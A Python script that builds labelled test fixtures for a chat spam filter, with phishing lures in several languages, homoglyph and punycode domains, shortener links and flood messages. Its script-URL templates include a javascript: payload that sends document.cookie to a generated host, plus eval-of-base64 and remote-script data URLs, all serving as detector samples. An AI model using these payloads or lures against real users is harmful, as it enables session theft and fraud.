#!/usr/bin/env python3
"""Chat messages for measuring spam.link (every kind but the look-alikes of
tests/fixtures/links/) and spam.flood: tests/fixtures/spam/draw1.jsonl and draw2.jsonl, and
draws 3, 4 and 5 of the wording kinds on strangers' wording (scripts/spam_wording_3.py,
scripts/spam_wording_4.py and scripts/spam_wording_5.py).

Two draws with different seeds and no text in common: draw 1 is read while the rules are
tuned, draw 2 is held out (the bench prints its misses only with ACCURACY_HELDOUT_MISSES=1).
Lists that are split between the draws (shortener hosts, host words, wording, carriers) are
split in halves, so draw 2 also holds values draw 1 never showed.

Run once by a developer (builds and tests never run it); the same versions give
byte-identical files:
    python3 -m venv /tmp/pyt/venv && /tmp/pyt/venv/bin/pip install Faker==40.54.0 \\
        antispam-link-shorteners==0.2.1 confusable-homoglyphs==3.3.1 idna==3.20
    /tmp/pyt/venv/bin/pip install --no-deps urlexpander==0.0.37
    /tmp/pyt/venv/bin/python scripts/gen_spam_fixtures.py

Each line: `text`, `rule` (`spam.link`, `spam.flood` or null for an ordinary message),
`kind` (the expected kind, or for an ordinary message what it is), `history` when the
sender's recent messages matter, and `source` (how the line was made). See
tests/fixtures/spam/README.md.
"""
import base64
import json
import os
import random

import idna
from confusable_homoglyphs import confusables
from faker import Faker

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT = os.path.join(ROOT, "tests/fixtures/spam")
SEEDS = {1: 2026112101, 2: 2026112102, 3: 2026112103, 4: 2026112204, 5: 2026112205}
PER_KIND = 40

LOCALES = [
    "en_US", "en_GB", "en_IN", "es_ES", "es_MX", "pt_BR", "pt_PT", "fr_FR", "de_DE", "it_IT",
    "id_ID", "tr_TR", "ru_RU", "uk_UA", "pl_PL", "nl_NL", "sv_SE", "vi_VN", "th_TH", "ja_JP",
    "ko_KR", "zh_CN", "ar_AA", "hi_IN",
]
# Locales whose names are in other scripts than Latin.
NON_LATIN_NAMES = [
    "ru_RU", "uk_UA", "ja_JP", "zh_CN", "zh_TW", "ko_KR", "ar_AA", "hi_IN", "el_GR", "th_TH",
    "he_IL", "fa_IR", "bn_BD", "ka_GE", "hy_AM",
]
# Locales with a lorem word list of their own (Faker's `sentence`).
SENTENCE_LOCALES = ["en_US", "ru_RU", "de_DE", "fr_FR", "it_IT", "pl_PL", "el_GR", "uk_UA", "es_ES", "pt_BR"]


def shorteners():
    """The URL shortener hosts of antispam-link-shorteners (PeterDaveHello/url-shorteners)."""
    import antispam_link_shorteners as pkg

    path = os.path.join(os.path.dirname(pkg.__file__), "shorteners.txt")
    with open(path, encoding="utf-8") as f:
        hosts = [line.strip() for line in f]
    return sorted(h for h in hosts if h and not h.startswith("#"))


# Entries of urlexpander's lists that shorten links of one organisation only (a government,
# a social network's own media, a newspaper, a campaign, an app-link platform, a publishing
# service): they go where that organisation goes, so they are not in the shortener label.
ONE_ORGANISATION = {"1.usa.gov", "go.usa.gov", "amp.twimg.com", "fb.me", "on.fb.me", "washex.am", "ofa.bo",
                    "branch.io", "paper.li", "www.linkbucks.com"}


def general_shorteners():
    """The shortener label: urlexpander's curated lists of general link shorteners, ad-paying
    shorteners and URL appenders (Leon Yin, MIT), without ONE_ORGANISATION. Its list of news
    outlets' shorteners (nyti.ms, on.wsj.com) is left out for the same reason. The module is
    read from its file: the package's __init__ needs network libraries."""
    import importlib.util

    spec = importlib.util.find_spec("urlexpander")
    path = os.path.join(os.path.dirname(spec.origin), "core", "constants.py")
    cspec = importlib.util.spec_from_file_location("urlexpander_constants", path)
    c = importlib.util.module_from_spec(cspec)
    cspec.loader.exec_module(c)
    hosts = set(c.short_domain) | set(c.short_domain_ad_redirects) | set(c.url_appenders)
    return sorted(hosts - ONE_ORGANISATION)


def carriers():
    """The benchmark's short chat lines (benches/workload/short.jsonl)."""
    with open(os.path.join(ROOT, "benches/workload/short.jsonl"), encoding="utf-8") as f:
        lines = [json.loads(line)["text"] for line in f]
    return [t for t in lines if 3 <= len(t) <= 160 and "http" not in t and "www." not in t]


# Top-level domains that abuse reports rank high by count but that hold many ordinary sites
# (shops, blogs, Chinese sites): links there are ordinary for the rule (ninth session; until
# then the generator labelled them abused_tld, against the rule's stated definition).
BUSY_TLDS = {"live", "shop", "online", "site", "fun", "space", "info", "cn"}


def halves(items, draw, seed=7):
    """Half of `items` for each draw, the same split every run."""
    items = list(items)
    random.Random(seed).shuffle(items)
    return items[draw - 1 :: 2]


# Homoglyphs of Latin letters in other scripts (confusable-homoglyphs' data); the
# mathematical and full-width forms fold back to Latin, so only letters of real scripts.
def homoglyphs():
    out = {}
    for c in "abcdehijklmnopstuxy":
        found = confusables.is_confusable(c, greedy=True) or []
        for entry in found:
            for h in entry["homoglyphs"]:
                if h["n"].split()[0] in ("CYRILLIC", "GREEK", "ARMENIAN") and "SMALL" in h["n"]:
                    out.setdefault(c, []).append(h["c"])
    return out


# Written by the sendsafe developers (say so in the README): the shapes of script and data
# URLs, of defanged links, phishing pressure, adult and gambling words, promotions around
# an invite, big sites people share, acronyms, laughter and code.
SCRIPT_URLS = [
    "javascript:alert({q}{w}{q})",
    "javascript:void(document.location={q}https://{d}/{w}{q})",
    "javascript:fetch({q}//{d}/{w}?c={q}+document.cookie)",
    "JavaScript:eval(atob({q}{b}{q}))",
    "javascript:window.open({q}https://{d}{q})",
    "data:text/html;base64,{b}",
    "data:text/html,<script>location={q}https://{d}/{w}{q}</script>",
    "data:application/x-javascript;base64,{b}",
    "data:text/html;charset=utf-8,<h1>{w}</h1><script src={q}//{d}/x.js{q}></script>",
]
DEFANG = [
    "{a}[.]{t}", "{a}(.){t}", "{a} dot {t}", "{a}[dot]{t}", "{a} [.] {t}", "hxxps://{a}.{t}/{p}",
    "hxxp://{a}[.]{t}", "{a}{{.}}{t}", "{a} (dot) {t}", "https://{a}[.]{t}/{p}", "{a}[.]{t}/{p}",
    "{a} . {t}",
]
PHISHING = {
    "en": [
        "your account has been limited, log in here to restore it: {u}",
        "We noticed a sign-in from a new device. Confirm it was you: {u}",
        "Congratulations! You were selected for a $500 reward, claim it before midnight {u}",
        "URGENT: your parcel is on hold, pay the customs fee at {u}",
        "final notice: verify your details or your wallet will be closed {u}",
        "you are today's lucky winner 🎉 collect your prize {u}",
        "Your password expires today. Keep your current password here: {u}",
        "security alert!! someone tried to access your account, secure it now {u}",
    ],
    "es": [
        "Tu cuenta ha sido bloqueada, verifica tus datos aquí {u}",
        "¡Felicidades! Ganaste un premio, reclámalo ahora en {u}",
        "Aviso: tu paquete está retenido, paga el envío en {u}",
        "actualiza tus datos bancarios hoy o perderás el acceso {u}",
    ],
    "pt": [
        "Sua conta foi suspensa. Confirme seus dados em {u}",
        "Parabéns, você ganhou um prêmio! Resgate agora: {u}",
        "seu pix foi bloqueado, regularize pelo link {u}",
        "atenção: sua encomenda está retida, pague a taxa em {u}",
    ],
    "fr": [
        "Votre compte a été suspendu, confirmez votre identité ici {u}",
        "Félicitations, vous avez gagné ! Réclamez votre cadeau {u}",
        "votre colis est en attente, réglez les frais sur {u}",
        "dernier rappel : mettez à jour vos informations de paiement {u}",
    ],
    "id": [
        "Akun anda akan diblokir, verifikasi sekarang di {u}",
        "Selamat! Anda memenangkan hadiah, klaim di {u}",
        "paket anda tertahan, bayar biaya di {u} segera",
        "rekening anda dibekukan, aktifkan kembali lewat {u}",
    ],
    "tr": [
        "Hesabınız askıya alındı, bilgilerinizi doğrulayın: {u}",
        "Tebrikler! Ödül kazandınız, hemen alın {u}",
        "kargonuz bekletiliyor, ücreti ödeyin {u}",
        "şifreniz sona eriyor, hemen güncelleyin {u}",
    ],
    "ru": [
        "Ваш аккаунт заблокирован, подтвердите данные по ссылке {u}",
        "Поздравляем! Вы выиграли приз, заберите его здесь {u}",
        "ваша посылка задержана, оплатите пошлину {u}",
        "срочно подтвердите вход в аккаунт {u}",
    ],
    "ar": [
        "تم تعليق حسابك، قم بتأكيد بياناتك هنا {u}",
        "مبروك! لقد ربحت جائزة، اطلبها الآن {u}",
        "شحنتك معلقة، ادفع الرسوم عبر {u}",
        "تنبيه أمني: تحقق من حسابك فورا {u}",
    ],
    "hi": [
        "aapka account band ho jayega, abhi verify karein {u}",
        "badhai ho! aapne inaam jeeta hai, yahan claim karein {u}",
        "aapka KYC pending hai, turant update karein {u}",
        "aapka parcel ruka hua hai, fees bharein {u}",
    ],
}
ADULT_WORDS = ["porn", "xxx", "sex", "nude", "nudes", "hentai", "camgirls", "escort", "milf", "erotic", "livecams", "xvideo"]
GAMBLING_WORDS = ["casino", "bet", "betting", "poker", "slots", "jackpot", "roulette", "sportsbet", "slot", "spins", "bingo", "casinos"]
ADULT_TEXT = [
    "hot girls live on cam right now 🔥 {u}",
    "chicas calientes en vivo aquí {u}",
    "nudes grátis, só entrar {u}",
    "18+ only, see my private videos {u}",
    "video dewasa gratis {u}",
    "бесплатное видео для взрослых {u}",
]
GAMBLING_TEXT = [
    "best online casino, 200% deposit bonus today {u}",
    "apuestas deportivas con bono de bienvenida {u}",
    "ganhe no cassino online, rodadas grátis {u}",
    "slot gacor hari ini, deposit 10rb {u}",
    "bahis sitesi, yatırım bonusu {u}",
    "free spins no deposit, play now {u}",
]
PROMO = [
    "join my group for free crypto signals, 10x guaranteed {u}",
    "earn $300 daily from home, join now {u}",
    "free followers and likes every day, join 👉 {u}",
    "únete a mi grupo de inversiones, ganancias diarias {u}",
    "entre no grupo vip de sinais, lucro garantido {u}",
    "gabung grup kami, dapat cuan tiap hari {u}",
    "подписывайся на канал, бесплатные сигналы каждый день {u}",
    "join our server for free nitro giveaway {u}",
]
PLAIN_INVITE = [
    "here's the link to the class group {u}",
    "this is the group for the trip, add yourself {u}",
    "el grupo de la familia: {u}",
    "grupo do futebol de quinta {u}",
    "our study server {u}",
    "ссылка на чат нашего дома {u}",
]
BIG_SITES = [
    "https://www.youtube.com/watch?v={id11}",
    "https://youtu.be/{id11}",
    "https://en.wikipedia.org/wiki/{W}",
    "https://github.com/{user}/{w}",
    "https://www.amazon.com/dp/B0{ID8}",
    "https://maps.google.com/?q={w}",
    "https://www.instagram.com/p/{id11}/",
    "https://twitter.com/{user}/status/17{digits}",
    "https://x.com/{user}",
    "https://www.reddit.com/r/{w}/",
    "https://open.spotify.com/track/{id22}",
    "https://www.tiktok.com/@{user}/video/73{digits}",
    "https://docs.google.com/document/d/{id22}/edit",
    "https://www.facebook.com/{user}",
    "https://www.linkedin.com/in/{user}",
    "https://stackoverflow.com/questions/7{digits6}",
    "https://www.bbc.com/news/world-{digits6}",
    "https://www.netflix.com/title/8{digits6}",
    "https://www.mercadolivre.com.br/{w}",
    "https://www.imdb.com/title/tt{digits6}/",
    "https://drive.google.com/file/d/{id22}/view",
    "https://www.booking.com/hotel/{w}.html",
]
ACRONYMS = [
    "OMG", "LOL", "LMAO", "BRB", "NASA", "OK", "WTF", "IDK", "TBH", "FYI", "ASAP", "BTW", "GG", "DM me",
    "OMG OMG", "LOL ok", "NASA launched it today", "I work at the UN", "USA vs UK tonight", "CEO and CFO meeting at 3",
    "FIFA WORLD CUP", "the BBC said so", "PDF or DOCX?", "SOS", "HAPPY BIRTHDAY", "GOOD MORNING", "I LOVE YOU",
    "RIP", "NBA finals!!", "my GPA is ok", "AI and ML course", "GRACIAS", "FELIZ NAVIDAD", "TCC entregue", "CPF e RG",
]
LAUGHTER = [
    "hahahahaha", "hahaha", "jajajajaja", "jajaja", "555555", "5555", "kkkkkkkk", "kkkk", "wkwkwkwk", "ㅋㅋㅋㅋㅋ",
    "哈哈哈哈", "ахахахах", "хахаха", "hehehe", "rsrsrs", "mdrrr", "xD", "LOOOL", "hihihi", "ههههههه",
]
EMOJI = ["😂😂😂", "❤️❤️", "👍", "🙏🙏", "🔥🔥🔥", "😭😭😭😭", "🎉🎉", "😍😍😍", "🤣🤣", "👏👏👏👏"]
CODE = [
    "try `{w}.{v}()` instead",
    "def {v}(x):\n    return x * 2",
    "const {v} = require('{w}');",
    "SELECT * FROM {w} WHERE id = 1;",
    "for i in range(10): print(i)",
    "if (x != null && x.{v}) {{ return; }}",
    "git checkout -b {w}-{v}",
    "pip install {w}",
    "npm run build && npm test",
    "<div class=\"{w}\">{v}</div>",
    "import {w} from './{v}.js'",
    "let {v} = vec![1, 2, 3];",
]
FLOOD_WORDS_EMOJI = ["😂", "🔥", "❤️", "💯", "😭", "🙏", "👍", "🎉"]


class Draw:
    def __init__(self, draw, seen):
        self.draw = draw
        self.rng = random.Random(SEEDS[draw])
        self.fake = Faker(sorted(set(LOCALES + NON_LATIN_NAMES + SENTENCE_LOCALES)))
        self.fake.seed_instance(SEEDS[draw])
        self.seen = seen
        self.rows = []
        self.carriers = halves(carriers(), draw)
        self.shorteners = halves(shorteners(), draw)
        self.general_shorteners = halves(general_shorteners(), draw)
        self.glyphs = homoglyphs()

    def add(self, text, rule, kind, source, history=None):
        if text in self.seen:
            return False
        self.seen.add(text)
        row = {"text": text, "rule": rule, "kind": kind}
        if history is not None:
            row["history"] = history
        row["source"] = source
        self.rows.append(row)
        return True

    def times(self, n, make):
        done, tries = 0, 0
        while done < n and tries < n * 20:
            tries += 1
            done += bool(make())

    # Pieces.
    def carrier(self):
        return self.rng.choice(self.carriers)

    def in_chat(self, link):
        c = self.carrier()
        return self.rng.choice([f"{c} {link}", f"{link} {c}", f"{c}\n{link}"])

    def word(self):
        w = self.fake["en_US"].word()
        return w if w.isascii() else "item"

    def domain_word(self):
        return self.fake.domain_word()

    def ordinary_url(self):
        return self.rng.choice([self.fake.url(), self.fake.uri(), "https://" + self.fake.domain_name(), self.fake.domain_name()])

    def slug(self, n):
        return "".join(self.rng.choice("abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(n))

    def sentence(self, locale=None):
        loc = locale or self.rng.choice(SENTENCE_LOCALES)
        return self.fake[loc].sentence(nb_words=self.rng.randint(5, 10))

    # spam.link positives.
    def shortener(self):
        # The first lists' host is still drawn, so that every other line of the draw stays as
        # it was before the label changed; the host shown comes from the label's list.
        first = self.rng.choice(self.shorteners)
        host = random.Random(f"{self.draw}:{first}").choice(self.general_shorteners)
        link = self.rng.choice(["https://", "http://", ""]) + f"{host}/{self.slug(self.rng.randint(4, 8))}"
        return self.add(self.in_chat(link), "spam.link", "shortener", f"urlexpander shortener host {host}, Faker carrier")

    def spoofed_label(self):
        """A Faker domain word with one Latin letter swapped for a homoglyph of another script."""
        w = self.domain_word()
        spots = [i for i, c in enumerate(w) if c in self.glyphs]
        if len(w) < 4 or not spots:
            return None
        i = self.rng.choice(spots)
        return w[:i] + self.rng.choice(self.glyphs[w[i]]) + w[i + 1 :], w

    def punycode(self):
        got = self.spoofed_label()
        if not got:
            return False
        label, w = got
        try:
            ace = idna.encode(label, uts46=True).decode()
        except idna.IDNAError:
            ace = "xn--" + label.encode("punycode").decode()
        tld = self.fake.tld()
        link = self.rng.choice(["https://", "http://", "www.", ""]) + f"{ace}.{tld}" + self.rng.choice(["", "/", f"/{self.word()}"])
        return self.add(self.in_chat(link), "spam.link", "punycode", f"Faker domain word {w!r}, a confusable-homoglyphs letter, idna")

    def mixed_script(self):
        got = self.spoofed_label()
        if not got:
            return False
        label, w = got
        tld = self.fake.tld()
        link = self.rng.choice(["https://", "http://", "www."]) + f"{label}.{tld}" + self.rng.choice(["", "/", f"/{self.word()}"])
        return self.add(self.in_chat(link), "spam.link", "mixed_script", f"Faker domain word {w!r}, a confusable-homoglyphs letter")

    def abused_tld(self):
        tld = self.rng.choice(self.abused)
        host = self.rng.choice([self.domain_word(), f"{self.domain_word()}-{self.word()}", f"{self.word()}{self.rng.randint(1, 99)}"])
        link = self.rng.choice(["https://", "http://", "www.", ""]) + f"{host}.{tld}" + self.rng.choice(["", "/", f"/{self.word()}", f"/{self.slug(6)}"])
        if tld in BUSY_TLDS:
            # Abuse reports count these too, but most of their sites are ordinary: the rule
            # leaves them alone on purpose (src/data/link_hosts.tsv), so a link there is ordinary.
            return self.add(self.in_chat(link), None, "busy_tld", f"Faker host on .{tld}, a TLD with many ordinary sites")
        return self.add(self.in_chat(link), "spam.link", "abused_tld", f"Faker host, abused TLD .{tld}")

    def credential(self):
        f = self.fake
        host = f.domain_name()
        user = self.rng.choice([f.user_name(), f"{f.user_name()}:{f.password(length=10, special_chars=False)}", f.domain_name(), "www." + f.domain_name()])
        path = self.rng.choice(["", "/", f"/{self.word()}", f"/{self.word()}/{self.slug(5)}"])
        link = self.rng.choice(["https://", "http://"]) + f"{user}@{host}{path}"
        return self.add(self.in_chat(link), "spam.link", "credential_in_url", "Faker user name, password and domains")

    def data_or_script(self):
        d = self.fake.domain_name()
        w = self.word()
        b = base64.b64encode(f"<script>{w}()</script>".encode()).decode()
        link = self.rng.choice(SCRIPT_URLS).format(q=self.rng.choice("'\""), w=w, d=d, b=b)
        c = self.carrier()
        return self.add(self.rng.choice([f"{c} {link}", f"{link}", f"open this: {link}"]), "spam.link", "data_or_script", "our script/data URL shapes, Faker domain and word")

    def obfuscated(self):
        name = self.fake.domain_name()
        a, _, t = name.rpartition(".")
        link = self.rng.choice(DEFANG).format(a=a, t=t, p=self.word())
        return self.add(self.in_chat(link), "spam.link", "obfuscated", f"Faker domain {name}, our defanging shapes")

    def phishing(self):
        lang = self.rng.choice(sorted(self.phishing_text))
        tpl = self.rng.choice(self.phishing_text[lang])
        return self.add(tpl.format(u=self.ordinary_url()), "spam.link", "phishing_wording", f"our {lang} phishing wording, Faker URL")

    def host_word_link(self, words, kind):
        w = self.rng.choice(words)
        dw = self.domain_word()
        host = self.rng.choice([f"{w}{dw}", f"{dw}-{w}", f"{w}-{self.word()}", f"{w}{self.rng.randint(1, 999)}", f"{self.word()}{w}"])
        link = self.rng.choice(["https://", "http://", "www.", ""]) + f"{host}.{self.fake.tld()}" + self.rng.choice(["", "/", f"/{self.word()}"])
        return self.add(self.in_chat(link), "spam.link", kind, f"our {kind} host word {w!r}, Faker domain word and TLD")

    def wording_link(self, texts, kind):
        return self.add(self.rng.choice(texts).format(u=self.ordinary_url()), "spam.link", kind, f"our {kind} wording, Faker URL")

    def invite_link(self):
        code = self.slug(self.rng.randint(6, 10))
        return self.rng.choice([
            f"https://discord.gg/{code}", f"discord.gg/{code}", f"https://discord.com/invite/{code}",
            f"https://t.me/+{code}", f"https://t.me/joinchat/{code}", f"https://chat.whatsapp.com/{code}{self.slug(12)}",
            f"t.me/{self.fake.user_name()}",
        ])

    def invite(self):
        return self.add(self.rng.choice(self.promo).format(u=self.invite_link()), "spam.link", "invite", "our promotion wording, invite hosts of Discord/Telegram/WhatsApp, random code")

    # spam.flood positives.
    def repeat(self):
        s = self.sentence()
        if len(s) < 20:
            return False
        variant = self.rng.choice([
            s, s + " " + self.rng.choice(FLOOD_WORDS_EMOJI), s.upper(), s.lower().rstrip(".") + "!!",
            s.replace(" ", "  ", 1), f"{s} {self.rng.randint(2, 99)}",
        ])
        history = [s] if self.rng.random() < 0.5 else [self.sentence(), s]
        return self.add(variant, "spam.flood", "repeat", "Faker sentence sent again (same words, other emoji, digits, case or punctuation)", history)

    def repeated_link(self):
        u = self.fake.url().rstrip("/") + "/" + self.word()
        history = [self.in_chat(u), self.in_chat(u)]
        return self.add(self.in_chat(u), "spam.flood", "repeated_link", "a Faker URL in two recent messages and again", history)

    def mass_mention(self):
        n = self.rng.randint(5, 9)
        names = []
        while len(names) < n:
            u = self.fake.user_name()
            if u not in names:
                names.append(u)
        mentions = " ".join("@" + u for u in names)
        return self.add(self.rng.choice([mentions, f"{mentions} {self.carrier()}", f"{self.carrier()} {mentions}"]), "spam.flood", "mass_mention", "Faker user names")

    def many_links(self):
        links = [self.ordinary_url() for _ in range(self.rng.randint(5, 7))]
        sep = self.rng.choice([" ", "\n", " | ", ", "])
        return self.add(self.rng.choice(["", "check these: ", "ofertas: "]) + sep.join(links), "spam.flood", "many_links", "Faker URLs")

    def char_flood(self):
        r = self.rng
        choice = r.randrange(5)
        if choice == 0:
            flood = r.choice("!?.") * r.randint(22, 40)
            text = self.carrier().rstrip("!?.") + flood
        elif choice == 1:
            text = r.choice(FLOOD_WORDS_EMOJI) * r.randint(21, 35)
        elif choice == 2:
            w = self.word()
            v = [i for i, c in enumerate(w) if c in "aeiou"]
            if not v:
                return False
            i = v[-1]
            text = w[:i] + w[i] * r.randint(26, 40) + w[i + 1 :]
        elif choice == 3:
            w = self.fake[r.choice(SENTENCE_LOCALES)].word()
            text = " ".join([w] * r.randint(12, 20))
        else:
            text = self.carrier() + " " + r.choice(FLOOD_WORDS_EMOJI) * r.randint(21, 30)
        return self.add(text, "spam.flood", "char_flood", "Faker word or carrier with a run of one character, emoji or word")

    def shouting(self):
        loc = self.rng.choice(SENTENCE_LOCALES)
        s = " ".join(self.fake[loc].sentence(nb_words=self.rng.randint(6, 10)) for _ in range(self.rng.randint(1, 2))).upper()
        if sum(c.isalpha() for c in s) < 30:
            return False
        return self.add(s, "spam.flood", "shouting", f"Faker {loc} sentences in capitals")

    # Ordinary messages.
    def negatives(self, n_link_pos):
        r, f = self.rng, self.fake
        def neg(text, kind, source, history=None):
            return self.add(text, None, kind, source, history)
        self.times(n_link_pos // 2, lambda: neg(self.in_chat(self.ordinary_url()), "ordinary_link", "Faker URL in a benchmark chat line"))
        self.times(n_link_pos // 4, lambda: neg(self.in_chat(r.choice(BIG_SITES).format(
            id11=self.slug(11), id22=self.slug(22), ID8=self.slug(8).upper(), W=f.word().capitalize(), w=self.word(), user=f.user_name(),
            digits="".join(r.choice("0123456789") for _ in range(16)), digits6="".join(r.choice("0123456789") for _ in range(6)))),
            "big_site_link", "our list of big sites, Faker paths"))
        self.times(120, lambda: neg(self.carrier(), "chat", "benchmark chat line"))
        self.times(40, lambda: neg(r.choice(["mail me at {}", "my email is {}", "{}", "send it to {} pls", "correo: {}"]).format(f.email()), "email", "Faker e-mail address"))
        self.times(40, lambda: neg(f[r.choice(SENTENCE_LOCALES)].paragraph(nb_sentences=r.randint(4, 8)), "long_message", "Faker paragraph"))
        self.times(30, lambda: neg(r.choice([x for x in self.acronyms]) + r.choice(["", "!", " 😂", "?"]), "acronym", "our acronyms and short capitals"))
        self.times(25, lambda: neg(r.choice(self.laughter) + r.choice(["", " " + self.carrier()]), "laughter", "our laughter in several languages"))
        self.times(20, lambda: neg(r.choice([self.carrier() + " " + r.choice(EMOJI), r.choice(EMOJI)]), "emoji", "benchmark chat line and a few emoji"))
        self.times(30, lambda: neg(r.choice(["@{} {}", "{1} @{0}", "thanks @{}! {}"]).format(f.user_name(), self.carrier()), "one_mention", "Faker user name, benchmark chat line"))
        self.times(30, lambda: neg(f"{self.carrier()} {self.ordinary_url()} {r.choice(['and', 'or', 'y', 'e', 'ou'])} {self.ordinary_url()}", "two_links", "two Faker URLs in a chat line"))
        self.times(30, lambda: neg(r.choice(["two mentions @{} @{}", "@{} and @{} are coming"]).format(f.user_name(), f.user_name()), "two_mentions", "Faker user names"))
        def short_twice():
            w = r.choice(["ok", "okay", "thanks", "lol", "yes", "sí", "ok 👍", "obrigado", "да", "tamam", "oke", "haha", "good night", "kk"])
            text = w + r.choice(["", " ", "!"])
            return neg(text, "same_short_twice", "a short reply sent again", [w, self.carrier(), text])
        self.times(30, short_twice)
        self.times(30, lambda: neg(self.sentence(), "other_history", "Faker sentence after other Faker sentences", [self.sentence(), self.sentence()]))
        self.times(20, lambda: neg(self.in_chat(u := self.fake.url()), "link_again_once", "a Faker URL sent once before", [self.in_chat(u)]))
        self.times(40, lambda: neg(r.choice(["this is {}", "{} says hi", "مرحبا {}", "{}", "call {} tomorrow", "{} 👍"]).format(f[r.choice(NON_LATIN_NAMES)].name()), "non_latin_name", "Faker names of non-Latin locales"))
        self.times(30, lambda: neg(r.choice(CODE).format(w=self.word(), v=f.user_name().replace(".", "_")), "code", "our code shapes, Faker words"))
        self.times(20, lambda: neg(r.choice(self.plain_invite).format(u=self.invite_link()), "plain_invite", "our wording, invite link without promotion"))


def main():
    seen = set()
    for draw in (1, 2):
        d = Draw(draw, seen)
        # Abused TLDs named by public abuse reports (Spamhaus, Interisle), from the developers'
        # knowledge; split between the draws.
        d.abused = halves(["tk", "ml", "ga", "cf", "gq", "xyz", "top", "buzz", "icu", "click", "cyou", "rest", "monster", "sbs", "cfd", "quest", "bond", "zip", "mov", "work", "support", "loan", "win", "bid", "men", "date", "racing", "review", "stream", "download", "party", "science", "trade", "accountant", "cricket", "faith", "gdn", "su", "pw", "live", "shop", "online", "site", "fun", "space", "lol", "country", "kim", "info", "cn"], draw, seed=11)
        d.phishing_text = {k: halves(v, draw, seed=13) for k, v in PHISHING.items()}
        d.promo = halves(PROMO, draw)
        d.plain_invite = halves(PLAIN_INVITE, draw)
        d.acronyms = halves(ACRONYMS, draw)
        d.laughter = halves(LAUGHTER, draw)
        adult, gambling = halves(ADULT_WORDS, draw), halves(GAMBLING_WORDS, draw)
        adult_text, gambling_text = halves(ADULT_TEXT, draw), halves(GAMBLING_TEXT, draw)
        for make in [d.shortener, d.punycode, d.mixed_script, d.abused_tld, d.credential, d.data_or_script, d.obfuscated, d.phishing, d.invite]:
            d.times(PER_KIND, make)
        d.times(PER_KIND // 2, lambda: d.host_word_link(adult, "adult"))
        d.times(PER_KIND // 2, lambda: d.wording_link(adult_text, "adult"))
        d.times(PER_KIND // 2, lambda: d.host_word_link(gambling, "gambling"))
        d.times(PER_KIND // 2, lambda: d.wording_link(gambling_text, "gambling"))
        link_pos = len(d.rows)
        for make in [d.repeat, d.repeat, d.repeated_link, d.mass_mention, d.many_links, d.char_flood, d.shouting]:
            d.times(PER_KIND // 2 if make == d.repeat else PER_KIND, make)
        d.negatives(2 * link_pos)
        os.makedirs(OUT, exist_ok=True)
        with open(os.path.join(OUT, f"draw{draw}.jsonl"), "w", encoding="utf-8") as out:
            for row in d.rows:
                out.write(json.dumps(row, ensure_ascii=False) + "\n")
        counts = {}
        for row in d.rows:
            key = f"{row['rule']} {row['kind']}"
            counts[key] = counts.get(key, 0) + 1
        print(draw, len(d.rows), json.dumps(counts))


def wording_draw(draw=3):
    """Draws 3 to 5: the wording kinds only (phishing, adult, gambling and promoted invites),
    each template of scripts/spam_wording_<draw>.py once around a Faker URL or an invite link,
    and the same writer's ordinary messages with a link and plain invites as negatives."""
    import importlib

    w = importlib.import_module(f"spam_wording_{draw}")
    d = Draw(draw, set())
    plans = [
        (w.PHISHING, "spam.link", "phishing_wording", d.ordinary_url),
        (w.ADULT, "spam.link", "adult", d.ordinary_url),
        (w.GAMBLING, "spam.link", "gambling", d.ordinary_url),
        (w.INVITE_PROMO, "spam.link", "invite", d.invite_link),
        (w.PLAIN_INVITE, None, "plain_invite", d.invite_link),
        (w.ORDINARY_LINK, None, "ordinary_wording", d.ordinary_url),
    ]
    for texts, rule, kind, link in plans:
        for lang in sorted(texts):
            for tpl in texts[lang]:
                made = "invite link" if link == d.invite_link else "Faker URL"
                d.add(tpl.format(u=link()), rule, kind, f"draw-{draw} writer's {lang} wording, {made}")
    with open(os.path.join(OUT, f"draw{draw}.jsonl"), "w", encoding="utf-8") as out:
        for row in d.rows:
            out.write(json.dumps(row, ensure_ascii=False) + "\n")
    print(draw, len(d.rows))


if __name__ == "__main__":
    main()
    wording_draw()
    wording_draw(4)
    wording_draw(5)
